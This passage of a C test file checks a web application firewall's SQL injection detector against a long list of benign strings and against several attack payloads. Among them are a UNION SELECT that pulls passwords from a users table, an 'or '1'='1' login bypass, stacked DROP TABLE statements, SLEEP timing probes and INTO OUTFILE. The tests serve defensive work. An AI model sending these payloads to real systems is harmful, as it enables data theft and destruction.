    "Vorrei selezionare l'articolo dall'elenco",
    "L'unione fa la forza",
    "Eu gostaria de selecionar o item da lista",
    "N\xc3""\xa3""o \xc3""\xa9"" poss\xc3""\xad""vel excluir o registro (erro 42)",
    "\xd0""\xaf"" \xd1""\x85""\xd0""\xbe""\xd1""\x87""\xd1""\x83"" \xd0""\xb2""\xd1""\x8b""\xd0""\xb1""\xd1""\x80""\xd0""\xb0""\xd1""\x82""\xd1""\x8c"" \xd1""\x8d""\xd0""\xbb""\xd0""\xb5""\xd0""\xbc""\xd0""\xb5""\xd0""\xbd""\xd1""\x82"" \xd0""\xb8""\xd0""\xb7"" \xd1""\x81""\xd0""\xbf""\xd0""\xb8""\xd1""\x81""\xd0""\xba""\xd0""\xb0""",
    "\xe7""\xa7""\x81""\xe3""\x81""\xaf""\xe3""\x83""\xaa""\xe3""\x82""\xb9""\xe3""\x83""\x88""\xe3""\x81""\x8b""\xe3""\x82""\x89""\xe9""\xa0""\x85""\xe7""\x9b""\xae""\xe3""\x82""\x92""\xe9""\x81""\xb8""\xe6""\x8a""\x9e""\xe3""\x81""\x97""\xe3""\x81""\x9f""\xe3""\x81""\x84""",
    "\xe4""\xbd""\xa0""\xe5""\xa5""\xbd""\xe4""\xb8""\x96""\xe7""\x95""\x8c""\xef""\xbc""\x8c""\xe8""\xbf""\x99""\xe6""\x98""\xaf""\xe4""\xb8""\x80""\xe6""\xae""\xb5""\xe4""\xb8""\xad""\xe6""\x96""\x87""\xe6""\x96""\x87""\xe6""\x9c""\xac""",
    "\xd9""\x85""\xd8""\xb1""\xd8""\xad""\xd8""\xa8""\xd8""\xa7"" \xd8""\xa8""\xd8""\xa7""\xd9""\x84""\xd8""\xb9""\xd8""\xa7""\xd9""\x84""\xd9""\x85""",
    "\xd7""\xa9""\xd7""\x9c""\xd7""\x95""\xd7""\x9d"" \xd7""\xa2""\xd7""\x95""\xd7""\x9c""\xd7""\x9d""",
    "\xec""\x95""\x88""\xeb""\x85""\x95""\xed""\x95""\x98""\xec""\x84""\xb8""\xec""\x9a""\x94"" \xec""\x84""\xb8""\xea""\xb3""\x84""",
    "\xce""\x95""\xce""\xbb""\xce""\xbb""\xce""\xb7""\xce""\xbd""\xce""\xb9""\xce""\xba""\xce""\xac"" \xce""\xba""\xce""\xb5""\xce""\xaf""\xce""\xbc""\xce""\xb5""\xce""\xbd""\xce""\xb1""",
    "\xc3""\x9c""n\xc3""\xaf""c\xc3""\xb6""d\xc3""\xa9"" t\xc3""\xab""xt w\xc3""\xaf""th \xc3""\xa4""cc\xc3""\xa9""nts",
    "emoji \xf0""\x9f""\x98""\x80"" and \xf0""\x9f""\x8e""\x89"" party",
    "\xe2""\x98""\x83"" snowman \xe2""\x9d""\x84""",
    "select the best one -- really the best",
    "Select * to see all options",
    "The result is (1 + 2) * 3",
    "(1)",
    "(a)",
    "(a, b)",
    "f(x)",
    "foo()",
    "bar(1, 2)",
    "x.y.z",
    "a.b",
    "self.name = name",
    "user.profile.email",
    "obj['key']",
    "arr[0]",
    "map[\"x\"]",
    "$var",
    "$100",
    "$ne",
    "@mention",
    "@john_doe",
    "@@",
    "user@host",
    "50%",
    "100",
    "-1",
    "+1",
    "3.14",
    "1e10",
    "1.5e-3",
    ".5",
    "0.001",
    "007",
    "1,000,000",
    "1.000.000,00",
    "N/A",
    "n/a",
    "NULL",
    "null",
    "None",
    "undefined",
    "true",
    "false",
    "yes",
    "no",
    "OK",
    "ok",
    "Hello, world!",
    "Hello world",
    "hello",
    "Test",
    "test123",
    "password123!",
    "P@ssw0rd",
    "Tr0ub4dor&3",
    "correct horse battery staple",
    "!@#$%^&*()-",
    "!@#$%^&",
    "~/projects/app",
    "a-b-c-d",
    "snake_case_name",
    "camelCaseName",
    "PascalCaseName",
    "kebab-case-name",
    "SCREAMING_SNAKE_CASE",
    "ABC-123-XYZ",
    "SKU-0001",
    "ISBN 978-3-16-148410-0",
    "Flight AF 1234",
    "Room 101",
    "Apt. 4B",
    "P.O. Box 1234",
    "New York, NY 10001",
    "London SW1A 1AA",
    "1600 Pennsylvania Avenue NW, Washington, DC 20500",
    "Dear Sir/Madam,",
    "Thanks!!! :)",
    ":-( not happy",
    ";-) winking",
    "<3 <3 <3",
    "-- end of message --",
    "--",
    "---",
    "***",
    "/* comment */",
    "// comment",
    "<!-- html comment -->",
    "# comment line",
    "; ini comment",
    "[section]",
    "key = value",
    "name: value",
    "- list: item",
    "{{ template }}",
    "{% if user %}Hello{% endif %}",
    "${variable}",
    "#{ruby}",
    "<%= erb %>",
    "a && b",
    "a || b",
    "!a",
    "~a",
    "a != b",
    "a <> b",
    "a <= b",
    "a >= b",
    "a => b",
    "a -> b",
    "a :: b",
    "std::vector<int>",
    "std::string s = \"hello\";",
    "Foo::Bar::Baz",
    "Nokogiri::XML(doc)",
    "nlohmann::json j;",
    "fe80::1",
    "::1",
    "2001:db8::ff00:42:8329",
    "192.168.1.1",
    "10.0.0.1:8080",
    "localhost",
    "example.com",
    "sub.domain.example.org",
    "mailto:someone@example.com",
    "tel:+15551234567",
    "data:text/plain;base64,SGVsbG8=",
    "javascript is fun",
    "The quick brown fox jumps over the lazy dog",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    "It was the best of times, it was the worst of times.",
    "To be, or not to be, that is the question.",
    "I think, therefore I am.",
    "Don't worry, be happy.",
    "You can't always get what you want.",
    "We'll see what happens.",
    "They're going to the store, aren't they?",
    "Isn't it ironic, don't you think?",
    "He said, \"I'll be there at 5,\" and left.",
    "\"Hello,\" she said. \"How are you?\"",
    "'Single quoted sentence.'",
    "\"Double quoted sentence.\"",
    "`backticked`",
    "The file is named 'report.pdf'",
    "Set the value to '42' and save",
    "Enter 'admin' as the username",
    "Type \"yes\" to confirm",
    "Name: 'John', Age: '30'",
    "name = 'John' and age = 30",
    "where name = 'John'",
    "The query 'select' failed",
    "the 'union' keyword",
    "His order (number 5) was late; he complained.",
    "First; second; third",
    "a; b; c",
    "Step 1; step 2; done.",
    "Note: this is important; read it.",
    "I like apples; oranges are fine too.",
    "I like apples; select the best ones.",
    "Hi; drop me a line when you can.",
    "Hello;World",
    "x;y",
    "ok;",
    "end;",
    "1;2;3",
    "'foo';'bar';'def'",
    "`foo`;`bar`;`def`",
    "my name is 'foo'; and I work on CRS.",
    "my name is \"bar\"; and I work on CRS.",
    "It's 'quoted'; really.",
    "Call me at 555-1234 -- anytime",
    "Price: 10-20 EUR",
    "Score: 3-1",
    "Pages 10--20",
    "1--2",
    "a--b",
    "2--",
    "Hello #world",
    "Meet at 5#",
    "#1 best seller",
    "Room #5; floor #2",
    "size=10; color=red",
    "filter[name]=john",
    "sort=-created_at",
    "fields=id,name,email",
    "page[size]=20&page[number]=2",
    "include=author,comments.author",
    "q=title:\"foo\" AND author:\"bar\"",
    "title:\"hello world\" OR body:\"hello\"",
    "name eq 'John' and age gt 30",
    "Price gt 20 and Name eq 'Milk'",
    "startswith(Name, 'A') eq true",
    "contains(title, 'sql')",
    "status in ('active', 'pending')",
    "created_at > '2024-01-01'",
    "age >= 18 AND country = 'FR'",
    "SELECT-ALL checkbox",
    "select-all",
    "/select-quote",
    ".select-gws-banana",
    "/update-assets",
    "/load.php",
    "34-delete",
    "5desc",
    "\"desc\"",
    "desc",
    "asc",
    "ORDER BY",
    "GROUP BY",
    "Top 10 list",
    "Distinct features",
    "All rights reserved",
    "Limit 1 per customer",
    "Offset the margin",
    "Into the wild",
    "As soon as possible",
    "As good as it gets",
    "Such as apples from Spain",
    "I know it as Bob from work",
    "Between you and me",
    "Like a rolling stone",
    "Is it true?",
    "In the beginning",
    "Not now",
    "Null and void",
    "Exists or not",
    "Values and principles",
    "Set the table",
    "Table for two",
    "Database administrator",
    "Schema design review",
    "User guide",
    "Version 2",
    "Char siu pork",
    "Concat the strings",
    "Substring of the name",
    "Ascii art",
    "If only",
    "If (and only if) it works",
    "iif you know",
    "Convert to PDF",
    "Cast away",
    "Replace the battery",
    "Insert tab A into slot B",
    "Mid-season sale",
    "Ord. No. 42",
    "Left or right?",
    "Right (as usual)",
    "Trim the hedges",
    "Round (2) of the competition",
    "Count (of Monte Cristo)",
    "Length (in meters)",
    "Position (left)",
    "Space (the final frontier)",
    "Repeat (once more)",
    "Reverse (gear)",
    "Power (W)",
    "user (admin)",
    "Contact user (admin",
    "Sin City",
    "Cos it's nice",
    "Pow! Right in the kisser",
    "Hex key set",
    "Bin Laden",
    "Char (the fish)",
    "Now (that's what I call music) 42",
    "Sleep (song)",
    "Benchmark (surveying)",
    "Information Schema",
    "information about schemas",
    "pg catalog",
    "System objects",
    "master bedroom",
    "Master of Science",
    "Dual band router",
    "Northwind Traders",
    "Temp DB",
    "I'm the user's admin",
    "Users' guide",
    "Users' guide -- chapter 2",
    "the users' table",
    "1' tall",
    "2'",
    "3\"",
    "12\" pizza",
    "a 2x4 board",
    "4x4",
    "1920x1080",
    "x86_64",
    "arm64-v8a",
    "i386",
    "UTF-8",
    "ISO-8859-1",
    "en_US.UTF-8",
    "text/plain; charset=utf-8",
    "application/json",
    "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    "attachment; filename=\"report 2024.pdf\"",
    "inline; filename*=UTF-8''na%C3%AFve%20file.txt",
    "W/\"5e7d-1a2b3c\"",
    "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
    "session=abc123; Path=/; HttpOnly; Secure; SameSite=Lax",
    "_ga=GA1.2.1234567890.1234567890",
    "PHPSESSID=el4ukv0kqbvoirg7nkp4dncpk3",
    "csrftoken=aBcDeFgHiJkLmNoPqRsTuVwXyZ012345",
    "lang=en-US",
    "theme=dark",
    "cart=[{\"id\":1,\"qty\":2}]",
    "prefs={\"a\":true}",
    "Go to Settings > Privacy > Delete account",
    "Menu > File > Save As...",
    "Ctrl+C / Ctrl+V",
    "Alt+F4",
    "Shift + Enter",
    "A > B > C",
    "1 < 2 < 3",
    "a < b and b < c",
    "x => x * 2",
    "(x) => { return x; }",
    "lambda x: x + 1",
    "print(\"Hello, World!\")",
    "console.log('hello', 42);",
    "System.out.println(\"Hello\");",
    "echo \"hello\" > file.txt",
    "SELECT your preferred language",
    "UNION JACK",
    "DROP ZONE",
    "DELETE KEY",
    "INSERT MODE",
    "UPDATE REQUIRED",
    "PLEASE SELECT ONE OPTION FROM THE LIST BELOW",
    "ALL CAPS MESSAGE: ORDER NOW OR LOSE YOUR CHANCE",
    "Q&A session",
    "R&D department",
    "AT&T",
    "Johnson & Johnson",
    "Procter & Gamble",
    "B&B near the sea",
    "rock & roll",
    "salt & pepper",
    "M&M's",
    "Ben & Jerry's",
    "Barnes & Noble",
    "H&M",
    "A&E",
    "&amp;",
    "&lt;tag&gt;",
    "&#39;quoted&#39;",
    "&quot;hello&quot;",
    "%20",
    "%27",
    "100%25",
    "a+b",
    "a%2Bb",
    "hello+world",
    "name=John+Doe&city=New+York",
    "The SQL standard defines SELECT, INSERT, UPDATE and DELETE.",
    "Learn SQL: the SELECT statement retrieves rows from a table.",
    "Which is better: union or join?",
    "Use a join instead of a union for this query.",
    "The union select committee met yesterday.",
    "core::char::CharCase",
    "std::char - Rust",
    "struct std::char::DecodeUtf16Error",
    "//!     const SOME_PROPERTY: ::core::primitive::bool = true;",
    "&version::boolean",
    "$meth = $in->can('SUPER::uuid') if $meth == \\&uuid;",
    ".. code-block:: text",
    "b'='",
    "ut-Ma'in",
    "'and' => 3,",
    "'or'       , 8744,",
    "Bugs' and 'About Documentation'). Updates the 'Found a Bug' page with",
    "`--enable-tui'",
    "'--with-colons'.",
    "Writeln(f,'----');",
    "v8.setFlagsFromString('--trace_gc');",
    "console.log(buf.includes('is'));",
    "Writeln('And here is window #3');",
    "First (or only) line of ' or \" string.",
    "NAME=value with optional quotes (' or \"). The regular expression is less",
    "comment state\" and \"8.2.4.45 Markup declaration open",
    "split at the '='",
    "if an option takes an argument, its long_option should have '='",
    "It's definitely a comment -- either \"#\" is the first",
    "Replace 'unknown' values with the more portable ''",
    "exec('my.bat', (err, stdout, stderr) => {",
    "* configure.in: Drop 'exec' from default pager; no longer needed",
    "benchmark (1.6.0-2) unstable; urgency=medium",
    "Don't sleep(2) if all caches were uptodate",
    "if ((!strcmp(argv[arg_indx], \"-param\"))",
    "* Install package.json (Closes: #801849)",
    "upgrade openssl sources to 1.1.1e (Hassaan Pasha)",
    "called as \"subroutines\" from elsewhere. In effect, the DEFINE condition",
    "Instead of sec_ptr, use struct bfd_section\";",
    "its group explicitly. We pick that up from passwd.master already.",
    "select($rout = $rin, undef, undef, undef);",
    "{ no warnings; exec @_ }",
    "if(@section_name",
    "if (@_ == 0 &&",
    "$tar->extract(",
    "&& ord(\"A\") != 65;",
    "&& @optionlist > 0",
    "int    xp_type    /* transport type */",
    "printf(1)",
    "$to\\n\\n\");",
    "my $meta = CPAN::Meta->load_file('META.json');",
    "C<load_file()>.",
    "(x.pow(",
    "sqrt(3)",
    "cast (or",
    "goog.DEBUG && (message += \" - attempted to parse \" + ns + \". Parsing\");",
    "or i < (n-1)/2.  If n is even = 2*j, this is (2*j-1)/2 = j-1/2 so",
    "'  /* sum  '+",
    "4'#!mcz4e'-n&3",
    "bCagh'#\"Qy^>",
    "cG'?5#9/Jf",
    "On@JG'/*cYqjgX",
    "Don't buy this -- it broke after 2 days.",
    "\"union select\" meaning",
    "The Union Select Co.",
    "Just in case when it rains then we stay home",
};

TEST(attacks_blocked)
{
    for (size_t i = 0; i < RP_ARRAY_SIZE(attacks); i++) {
        rp__waf_match_t m;
        int sc = sqli(attacks[i], strlen(attacks[i]), &m);
        CHECK(sc >= BLOCK);
        if (sc < BLOCK)
            fprintf(stderr, "  missed (%d): %s\n", sc, attacks[i]);
        else
            CHECK(strncmp(m.evidence, "sqli: ", 6) == 0 && m.len > 0);
    }
}

TEST(benign_passes)
{
    for (size_t i = 0; i < RP_ARRAY_SIZE(benign); i++) {
        rp__waf_match_t m;
        int sc = sqli(benign[i], strlen(benign[i]), &m);
        CHECK(sc < BLOCK);
        if (sc >= BLOCK)
            fprintf(stderr, "  false positive (%d, %s): %s\n", sc, m.evidence, benign[i]);
    }
}

TEST(evidence_and_span)
{
    rp__waf_match_t m;
    const char *s = "id=1 UNION ALL SELECT password FROM users";
    CHECK(sqli(s, strlen(s), &m) >= 85);
    CHECK(strstr(m.evidence, "union select") != NULL);
    CHECK_STR(((rp_str_t){ s + m.off, 9 }), "UNION ALL");
    s = "admin' or '1'='1";
    CHECK(sqli(s, strlen(s), &m) >= 70);
    CHECK(strstr(m.evidence, "after closing '") != NULL);
    CHECK(strstr(m.evidence, "s&sos") != NULL);
    CHECK_EQ_INT(m.off, 0);
    CHECK_EQ_INT(m.len, strlen(s));
    s = "1; DROP TABLE users";
    CHECK(sqli(s, strlen(s), &m) >= 85);
    CHECK(strstr(m.evidence, "stacked") != NULL);
    CHECK_EQ_INT(m.off, 1);
    s = "x' AND SLEEP(5)--";
    CHECK(sqli(s, strlen(s), &m) >= 80);
    s = "hello world";
    CHECK_EQ_INT(sqli(s, strlen(s), &m), 0);
    CHECK_EQ_INT(m.off, 0);
    CHECK_EQ_INT(m.len, 0);
}

TEST(scores_by_certainty)
{
    /* unambiguous shapes score high, weak hints stay below the block score */
    CHECK(score("1 UNION SELECT 1,2,3") >= 85);
    CHECK(score("1; DROP TABLE users--") >= 85);
    CHECK(score("1 AND SLEEP(5)") >= 80);
    CHECK(score("' INTO OUTFILE '/tmp/x'") >= 85);
    CHECK(score("The union select committee met yesterday.") < BLOCK);
    CHECK(score("select name from users") > 0);        /* plausible SQL, not proof */
    CHECK(score("select name from users") < BLOCK);
    CHECK(score("/*! jQuery v3.7.1 | (c) OpenJS Foundation */") < BLOCK);
}

TEST(flags_and_sizes)
{
    rp__waf_match_t m;
    /* a JSON number or boolean cannot carry SQL */
    CHECK_EQ_INT(rp__waf_sqli("1 OR 1=1", 8, RP_WAF_SRC_BODY, RP_WAF_PT_NUMBER, &m), 0);
    /* keys are inspected like values */
    CHECK(rp__waf_sqli("1 OR 1=1", 8, RP_WAF_SRC_QUERY, RP_WAF_PT_KEY, &m) >= BLOCK);
    /* ?id=1;drop table users: a decoder that splits on ';' makes the
     * statement a parameter name, where a sentence is not expected */
    CHECK(rp__waf_sqli("drop table users", 16, RP_WAF_SRC_QUERY, RP_WAF_PT_KEY, &m) >= BLOCK);
    CHECK(rp__waf_sqli("drop table users", 16, RP_WAF_SRC_QUERY, 0, &m) < BLOCK);
    CHECK_EQ_INT(rp__waf_sqli("shutdown", 8, RP_WAF_SRC_QUERY, RP_WAF_PT_KEY, &m), 0);
    CHECK_EQ_INT(rp__waf_sqli("delete", 6, RP_WAF_SRC_QUERY, RP_WAF_PT_KEY, &m), 0);
    CHECK_EQ_INT(rp__waf_sqli("", 0, 0, 0, &m), 0);
    CHECK_EQ_INT(rp__waf_sqli("'", 1, 0, 0, &m), 0);
    CHECK_EQ_INT(rp__waf_sqli(NULL, 0, 0, 0, &m), 0);
}

/* Large and pathological inputs: bounded work, no crash, same verdicts. */
TEST(huge_inputs)
{
    size_t n = 1u << 20, i;
    char *s = malloc(n + 64);
    rp__waf_match_t m;
    static const char *const fills[] = { "a ", "((", "''", "\"'", "/*", "--\n", "*/", "$$", "1.", "@@", "\\'" };
    CHECK(s != NULL);
    if (!s)
        return;
    for (size_t f = 0; f < RP_ARRAY_SIZE(fills); f++) {
        for (i = 0; i < n; i++)
            s[i] = fills[f][i % 2];
        CHECK(sqli(s, n, &m) >= 0);
    }
    /* an attack at the start of a long value (commenting out the rest) */
    memcpy(s, "1 UNION SELECT 1,2-- ", 21);
    for (i = 21; i < n; i++)
        s[i] = "word "[i % 5];
    CHECK(sqli(s, n, &m) >= BLOCK);
    /* an attack far into a long value (past the first chunks of tokens) */
    for (i = 0; i < 30000; i++)
        s[i] = "word "[i % 5];
    memcpy(s + 30000, " 1; DROP TABLE users-- ", 23);
    CHECK(sqli(s, 30023, &m) >= BLOCK);
    /* deep nesting */
    for (i = 0; i < n; i++)
        s[i] = '(';
    memcpy(s + n - 20, "select sleep(5)", 15);
    CHECK(sqli(s, n - 5, &m) >= 0);
    free(s);
}

/* Cheap deterministic noise: the verdict must never break an invariant. */
TEST(random_bytes)
{
    static const char alphabet[] = "'\"`;()-#/*!=<>|&@:.,$\\ \n01aeorsnuilctxSELECTUNIOR";
    uint32_t x = 12345;
    char buf[96];
    for (int round = 0; round < 20000; round++) {
        size_t n = (size_t)(round % 95) + 1;
        rp__waf_match_t m;
        rp__sql_token_t t[128];
        for (size_t i = 0; i < n; i++) {
            x = x * 1103515245u + 12345u;
            buf[i] = (x >> 16) % 7 == 0 ? (char)(x >> 8) : alphabet[(x >> 16) % (sizeof(alphabet) - 1)];
        }
        (void)sqli(buf, n, &m);
        for (int c = 0; c < 3; c++) {
            size_t k = rp__sql_tokenize(buf, n, "\0'\""[c], t, 128), end = 0;
            for (size_t j = 0; j < k; j++) {
                CHECK(t[j].pos >= end && (size_t)t[j].pos + t[j].len <= n);
                end = (size_t)t[j].pos + t[j].len;
            }
        }
    }
}

int main(void)
{
    RUN(keyword_table_sorted);
    RUN(tokens_basic);
    RUN(tokens_numbers);
    RUN(tokens_strings);
    RUN(tokens_comments);
    RUN(tokens_context);
    RUN(tokens_limits);
    RUN(tokens_binary);
    RUN(attacks_blocked);
    RUN(benign_passes);
    RUN(evidence_and_span);
    RUN(scores_by_certainty);
    RUN(flags_and_sizes);
    RUN(huge_inputs);
    RUN(random_bytes);
    TEST_MAIN_END();
}
